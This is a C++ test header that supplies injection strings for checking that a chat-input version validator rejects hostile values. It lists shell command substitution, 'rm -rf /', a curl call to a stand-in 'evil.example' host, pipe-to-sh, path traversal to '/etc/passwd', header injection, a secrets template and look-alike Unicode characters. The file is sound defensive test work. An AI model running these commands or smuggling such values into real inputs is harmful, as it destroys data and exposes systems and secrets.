// Issue 18, item 5: versions typed in chat that a workflow interpolating its inputs into a shell
// step, a path, a header or a tool's options would misread, and characters that only look like
// allowed ones. One table for every test that checks the allow-list (common/chat_input.h): the
// deploy flow (every target kind) and the pipeline target (every CI provider).
//
// Contract: plain data; every entry must be refused by validate_version().
#pragma once

#include <string>
#include <vector>

#include "common/chat_input.h"

namespace shipmate::testing {

inline std::vector<std::string> injection_strings() {
  return {"$(id)",
          ";rm -rf /",
          "`id`",
          "../etc",
          "-rf",
          ".hidden",
          "a..b",
          "v1\nv2",
          "v1\r\nX-Injected: 1",
          std::string(kMaxVersionLength + 1, 'a'),
          "v1 && curl evil.example",
          "${{ secrets.TOKEN }}",
          "v1|sh",
          "v1'\"",
          "/etc/passwd",
          "v1\xe2\x80\xa4"
          "2",  // U+2024 ONE DOT LEADER, not '.'
          "\xef\xbd\x96"
          "1",  // U+FF56 FULLWIDTH v
          "v1\xe2\x80\x90"
          "2",          // U+2010 HYPHEN, not '-'
          "v\xd0\xb0",  // Cyrillic a
          std::string("v1\0rm", 5)};
}

}  // namespace shipmate::testing
